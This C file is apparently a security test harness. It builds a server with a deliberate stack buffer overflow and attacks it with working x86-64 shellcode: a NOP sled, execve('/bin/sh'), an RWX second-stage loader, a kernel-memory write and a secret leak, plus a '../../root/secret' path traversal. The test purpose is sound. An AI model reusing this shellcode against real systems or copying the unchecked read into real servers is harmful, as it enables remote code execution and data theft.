/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Remote code execution. serve() is a server that reads a request from a pipe into a buffer without looking at its length,
 * built as they were before protections: its stack may be executed, and the attacker knows where it is (no kernel here moves
 * it; of Linux's address he is told, as by a leak). The attacker is a thread at the other end of the pipe: what he sends is
 * all he does.
 *
 * The payloads: the textbook's execve("/bin/sh"), and those of an attacker who has read that a unikernel has no execve.
 */
#include "attacks.h"
#include "server.h"

#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/stat.h>

#define FD 9 /* the server's end of the pipe */
#define REQUEST 256
#define SHELL "/bin/sh"

/*
 * Shellcode, each from NAME to NAME_end; its last eight bytes are a parameter. It begins behind a sled of NOPs, on a stack
 * that it moves out of its own way.
 */
#define SHELLCODE(name, text)                                                                                          \
	extern const uint8_t name[], name##_end[];                                                                     \
	asm(".pushsection .rodata\n" #name ":\n	sub $4096, %rsp\n	and $-16, %rsp\n" text #name "_parameter: .quad 0\n"         \
	    #name "_end:\n.popsection\n")

/* execve("/bin/sh", {"/bin/sh", "-c", ...}, {NULL}), or the errno as the end. */
SHELLCODE(code_shell, "	push $0\n"
		      "	lea 3f(%rip), %rax\n	push %rax\n"
		      "	lea 2f(%rip), %rax\n	push %rax\n"
		      "	lea 1f(%rip), %rdi\n	push %rdi\n"
		      "	mov %rsp, %rsi\n"
		      "	lea 24(%rsp), %rdx\n"
		      "	mov $59, %eax\n	syscall\n"
		      "	mov %eax, %edi\n	neg %edi\n"
		      "	mov $231, %eax\n	syscall\n"
		      "1:	.asciz \"" SHELL "\"\n"
		      "2:	.asciz \"-c\"\n"
		      "3:	.asciz \"echo saw rce-shell runs a shell\"\n");

/* write(1, parameter, 41): what the server knows. */
SHELLCODE(code_inside, "	mov $1, %edi\n	mov code_inside_parameter(%rip), %rsi\n	mov $41, %edx\n"
		       "	mov $1, %eax\n	syscall\n"
		       "	xor %edi, %edi\n	mov $231, %eax\n	syscall\n");

/* Reads the second stage into fresh memory, and goes there. */
SHELLCODE(code_loader, "	xor %edi, %edi\n	mov $0x200000, %esi\n	mov $7, %edx\n	mov $0x22, %r10d\n"
		       "	mov $-1, %r8\n	xor %r9d, %r9d\n	mov $9, %eax\n	syscall\n"
		       "	mov %rax, %rbx\n	mov %rax, %rsi\n"
		       "1:	mov $9, %edi\n	mov $65536, %edx\n	xor %eax, %eax\n	syscall\n"
		       "	add %rax, %rsi\n	test %rax, %rax\n	jg 1b\n"
		       "	mov %rbx, %rdi\n	add (%rbx), %rbx\n	jmp *%rbx\n");

/* Writes "owned" to the parameter, an address of the kernel's, and shows what uname says then. */
SHELLCODE(code_kernel, "	mov code_kernel_parameter(%rip), %rax\n"
		       "	movl $0x656e776f, (%rax)\n	movw $0x64, 4(%rax)\n"
		       "	mov %rsp, %rdi\n	mov $63, %eax\n	syscall\n"
		       "	movb $10, 70(%rsp)\n"
		       "	mov $1, %edi\n	lea 1f(%rip), %rsi\n	mov $(2f - 1f), %edx\n	mov $1, %eax\n	syscall\n"
		       "	mov $1, %edi\n	lea 65(%rsp), %rsi\n	mov $6, %edx\n	mov $1, %eax\n	syscall\n"
		       "	xor %edi, %edi\n	mov $231, %eax\n	syscall\n"
		       "1:	.ascii \"saw rce-kernel stored uname says \"\n2:\n");

/* ---- the server ---- */

static const char secret[] = "saw rce-inside leaks the server's secret\n";
static uintptr_t leaked; /* where the buffer was */

__attribute__((noinline)) static long serve(size_t size)
{
	char request[REQUEST];

	leaked = (uintptr_t)request;
	return read(FD, request, size); /* the bug: `size` is not the buffer's */
}

/* ---- the attacker ---- */

struct request {
	uint8_t *data;
	size_t size;
	int to;
};

static void *send_request(void *argument)
{
	struct request *r = argument;

	for (size_t sent = 0; sent < r->size;) {
		long n = write(r->to, r->data + sent, r->size - sent);

		if (n <= 0)
			break;
		sent += (size_t)n;
	}
	close(r->to);
	return NULL;
}

/* The overflow: a sled, the code, and then its address wherever a return address may be. `more` follows when that runs. */
static void exploit(const uint8_t *code, const uint8_t *end, uintptr_t parameter, const uint8_t *more, size_t more_size)
{
	static struct request r;
	size_t size = (size_t)(end - code), overflow = REQUEST + 64;
	uintptr_t stack = (uintptr_t)&size & ~(PAGE - 1);
	pthread_t attacker;
	int ends[2];

	if (mprotect((void *)(stack - 2 * PAGE), 3 * PAGE, PROT_READ | PROT_WRITE | PROT_EXEC)) {
		saw_error("mprotect");
		return;
	}
	must(pipe(ends) == 0 && dup2(ends[0], FD) == FD && size <= REQUEST);
	r = (struct request){malloc(overflow + more_size), overflow + more_size, ends[1]};
	fcntl(FD, F_SETFL, O_NONBLOCK);
	serve(0);
	fcntl(FD, F_SETFL, 0);
	memset(r.data, 0x90, REQUEST);
	memcpy(r.data + REQUEST - size, code, size);
	memcpy(r.data + REQUEST - 8, &parameter, 8);
	for (size_t at = REQUEST; at < overflow; at += 8)
		memcpy(r.data + at, &leaked, 8);
	memcpy(r.data + overflow, more, more_size);
	must(pthread_create(&attacker, NULL, send_request, &r) == 0);
	serve(overflow);
	saw("refused", "the server came back");
}

static void rce_shell(void)
{
	exploit(code_shell, code_shell_end, 0, NULL, 0);
}

static void rce_inside(void)
{
	exploit(code_inside, code_inside_end, (uintptr_t)secret, NULL, 0);
}

static void rce_kernel(void)
{
	exploit(code_kernel, code_kernel_end, kernel_symbol("data"), NULL, 0);
}

/* The shell's file is the attacker's: he brings it along. */
static void rce_loader(void)
{
	static uint8_t more[1 << 20];
	struct stage *stage = (struct stage *)more;
	size_t code = (size_t)(__stop_loader - __start_loader), at = sizeof(*stage);
	int fd = open(SHELL, O_RDONLY);

	*stage = (struct stage){.program = SHELL, .option = "-c", .command = "echo saw rce-loader runs a shell without execve"};
	stage->entry = at + (size_t)((const char *)(uintptr_t)loader_entry - __start_loader);
	memcpy(more + at, __start_loader, code);
	at = (at + code + 15) & ~15ul;
	stage->file = at;
	for (long n; (n = read(fd, more + at, sizeof(more) - at)) > 0;)
		at += (size_t)n;
	close(fd);
	exploit(code_loader, code_loader_end, 0, more, at);
}

/* The twin without any code: a server of files below a folder, that trusts the name. */
static void path_traversal(void)
{
	static const char request[] = "../../root/secret";
	char path[64], text[32] = "";
	int fd = open("/root/secret", O_WRONLY | O_CREAT | O_TRUNC, 0600);

	must(fd >= 0 && write(fd, "a secret", 8) == 8 && close(fd) == 0);
	mkdir("/tmp", 01777);
	mkdir("/tmp/www", 0755);
	snprintf(path, sizeof(path), "/tmp/www/%s", request);
	fd = open(path, O_RDONLY);
	if (fd < 0 || read(fd, text, sizeof(text) - 1) <= 0)
		saw_error("open");
	else
		saw("leaks", "%s: %s", path, text);
}

const struct attack server_attacks[] = {
	{"rce-shell", rce_shell},
	{"rce-inside", rce_inside},
	{"rce-loader", rce_loader},
	{"rce-kernel", rce_kernel},
	{"path-traversal", path_traversal},
	{NULL, NULL},
};
